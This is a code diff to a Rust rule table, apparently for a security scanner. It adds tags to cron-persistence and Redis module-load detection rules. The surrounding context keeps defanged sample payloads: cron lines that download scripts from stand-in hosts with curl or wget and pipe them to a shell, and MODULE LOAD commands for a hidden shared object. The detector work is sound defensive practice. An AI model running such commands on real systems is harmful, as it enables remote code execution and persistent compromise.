@@ -7,7 +7,7 @@ pub(super) const TABLES: &[Table] = &[
         rule: "RD-CRON-001",
         severity: "critical",
         how: How::Any,
-        also: &["RD-CRON", "RD-EXEC", "RD-KEY", "RD-C2", "RD-BIN", "RD-ENT", "RD-MINE"],
+        also: &["RD-CRON", "RD-EXEC", "RD-KEY", "RD-C2", "RD-BIN", "RD-ENT", "RD-MINE", "RD-SEC-BASIC"],
         hits: &[
             "\n\n\n0-59/7 * * * * cu·rl -4 --silent http://203.0.113.77:8443/k/boot.txt | /bin/b·ash #DEFANGED\n\n",
             "\n\nSHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=\"\"\n1,16,31,46 * * * * root (/usr/bin/wg·et --no-check-certificate -O - https://node7.drop.test/a || true) | sh #DEFANGED\n\n",
@@ -59,7 +59,7 @@ pub(super) const TABLES: &[Table] = &[
         rule: "RD-CRON-002",
         severity: "high",
         how: How::Any,
-        also: &["RD-CRON", "RD-EXEC", "RD-KEY", "RD-C2", "RD-BIN", "RD-ENT"],
+        also: &["RD-CRON", "RD-EXEC", "RD-KEY", "RD-C2", "RD-BIN", "RD-ENT", "RD-SEC-BASIC"],
         hits: &[
             "*/13 * * * * cu·rl -s http://203.0.113.151/q.sh | sh #DEFANGED",
             "0,30 * * * * root wg·et -q -O - http://pkg.late.test:8000/go | bash #DEFANGED",
@@ -225,7 +225,7 @@ pub(super) const TABLES: &[Table] = &[
         rule: "RD-MOD-003",
         severity: "critical",
         how: How::Any,
-        also: &["RD-MOD", "RD-EXEC", "RD-KEY", "RD-C2"],
+        also: &["RD-MOD", "RD-REP", "RD-EXEC", "RD-KEY", "RD-C2"],
         hits: &[
             "MODULE LO·AD /tmp/ex·p.so",
             "module lo·ad /dev/shm/.x/red·2.so DEFANGED",
